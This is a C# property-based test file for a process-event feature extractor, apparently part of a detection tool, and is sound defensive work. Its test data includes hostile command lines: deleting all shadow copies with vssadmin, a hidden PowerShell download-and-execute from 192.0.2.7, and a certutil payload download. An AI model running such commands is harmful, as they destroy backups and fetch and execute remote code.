using Changeling.Events;
using Changeling.Features;
using Changeling.TestSupport;
using CsCheck;

namespace Changeling.Core.Tests.Features;

/// <summary>The act is read from the program and its arguments: no parent, user or right changes it.</summary>
public class ActFeaturesTests
{
    private static readonly Gen<ParentProcess?> Parents =
        from name in Of("explorer.exe", "winword.exe", "teamviewer.exe", "node.exe", "w3wp.exe", "odd name.exe", "cmd.exe")
        from folder in Of(@"C:\Program Files\Vendor\", @"C:\Windows\System32\", @"D:\x\", @"C:\Users\mara\AppData\Local\Temp\")
        from has in Gen.Int[0, 3]
        select has switch
        {
            0 => null,
            1 => new ParentProcess { Name = name },
            2 => new ParentProcess { Name = name, Path = folder + name },
            _ => new ParentProcess { Name = name, Path = folder + name, CommandLine = $"\"{folder}{name}\" -k certutil -urlcache" },
        };

    private static readonly Gen<UserIdentity?> Users = Of<UserIdentity?>(
        null, new UserIdentity("mara.lind", "CORP"), new UserIdentity("SYSTEM", "NT AUTHORITY", "S-1-5-18"));

    private static readonly Gen<IntegrityLevel?> Levels = Of<IntegrityLevel?>(
        null, IntegrityLevel.Low, IntegrityLevel.Medium, IntegrityLevel.High, IntegrityLevel.System);

    private static readonly string[] CommandLines =
    [
        "vssadmin.exe delete shadows /all /quiet", "powershell -w hidden -c iex(irm https://192.0.2.7/a)", @"C:\Users\mara\a.exe -x",
        "certutil -urlcache -f http://192.0.2.7/a a.exe", "svchost.exe -k netsvcs -p", "notepad", "",
    ];

    [Fact]
    public void No_parent_user_or_right_changes_the_features_of_the_act() =>
        Gen.Select(Parents, Users, Levels, Of(CommandLines)).Sample(
            (parent, user, level, line) =>
            {
                var child = line.Length == 0 ? "a.exe" : line.Split(' ')[0];
                var e = Some.ProcessEvent(child: child[(child.LastIndexOf('\\') + 1)..], commandLine: line);
                var other = e with { Parent = parent, User = user, Child = e.Child with { Integrity = level } };

                var (own, changed) = (FeatureExtractor.Extract(e), FeatureExtractor.Extract(other));

                Assert.Equal(own.ActGrams, changed.ActGrams);
                for (var i = 0; i < FeatureSchema.Length; i++)
                {
                    if (FeatureSchema.OfAct[i])
                        Assert.True(own.Values[i] == changed.Values[i], $"{FeatureSchema.Definitions[i].Name} reads the context");
                }
            },
            iter: 2_000);

    private static Gen<T> Of<T>(params T[] values) => Gen.Int[0, values.Length - 1].Select(i => values[i]);

    [Fact]
    public void The_grams_of_the_act_are_some_of_all()
    {
        var features = FeatureExtractor.Extract(Some.ProcessEvent(commandLine: "vssadmin.exe delete shadows /all /quiet"));

        Assert.NotEmpty(features.ActGrams);
        Assert.Empty(features.ActGrams.Except(features.Grams));
        Assert.True(features.ActGrams.Length < features.Grams.Length);
    }
}
